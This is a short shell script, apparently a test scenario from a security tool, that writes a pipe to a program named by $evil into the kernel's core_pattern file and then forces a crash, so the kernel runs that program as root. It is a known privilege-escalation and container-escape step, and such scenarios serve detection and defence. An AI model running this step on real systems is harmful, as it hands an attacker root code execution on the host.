# shellcheck shell=sh disable=SC2154
#
# core-program - let the kernel pipe a core into a program
#
# SPDX-License-Identifier: MIT

echo "|$evil" >/proc/sys/kernel/core_pattern
crash
